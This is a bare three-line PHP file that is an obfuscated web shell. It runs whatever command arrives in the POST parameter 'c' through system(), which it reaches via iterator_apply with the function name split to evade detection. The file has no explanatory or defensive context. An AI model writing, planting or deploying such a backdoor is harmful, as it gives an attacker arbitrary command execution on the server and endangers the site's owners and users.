<?php
$it = new ArrayIterator(array($_POST['c']));
iterator_apply($it, 'sy'.'stem', array($_POST['c']));
